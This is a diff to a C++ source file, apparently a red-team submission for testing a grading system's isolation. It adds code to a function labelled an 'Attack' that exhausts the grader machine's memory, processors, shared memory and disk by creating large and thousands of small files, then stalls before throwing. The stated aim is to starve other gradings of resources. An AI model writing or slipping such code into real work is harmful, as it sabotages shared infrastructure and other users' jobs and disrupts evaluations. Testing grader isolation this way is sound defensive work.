@@ -1,7 +1,8 @@
-// Attack: take the machine's memory and processors from the other gradings. Each call starts
-// processes that hold 1.5 GB each and sleep, busy threads, allocates beyond its limit, and fills
-// shared memory (/dev/shm), which outlived the old grader's gradings, then throws. Its task
-// scores 0; the other tasks, and other gradings, keep their points.
+// Attack: take the machine's memory, processors and disk from the other gradings. Each call
+// starts processes that hold 1.5 GB each and sleep, busy threads, allocates beyond its limit,
+// fills shared memory (/dev/shm), which outlived the old grader's gradings, and its own folder
+// (files of 60 MB, then thousands of small ones), then waits to be stopped. Its task scores 0;
+// the other tasks, and other gradings, keep their points.
 #include <fcntl.h>
 #include <sys/mman.h>
 #include <unistd.h>
@@ -48,6 +49,15 @@ Collision propagate_sectors(double, double, int n, Coordinates&, Velocities&, do
     const std::vector<char> block(std::size_t{1} << 20, 1);
     for (int megabyte = 0; megabyte < 600; ++megabyte) (void)!::write(shared, block.data(), block.size());
   }
+  for (int file = 0; file < 8; ++file) {  // sized without writing: the disk's space, as the folder counts it
+    const int big = ::open(("hog-" + std::to_string(file)).c_str(), O_RDWR | O_CREAT, 0644);
+    if (big >= 0) (void)!::ftruncate(big, off_t{60} << 20);
+  }
+  for (int file = 0; file < 20000; ++file) {
+    const int small = ::open(("small-" + std::to_string(file)).c_str(), O_RDWR | O_CREAT, 0644);
+    if (small >= 0) ::close(small);
+  }
+  ::sleep(60);
   throw std::logic_error("not computed, n = " + std::to_string(n));
 }
 
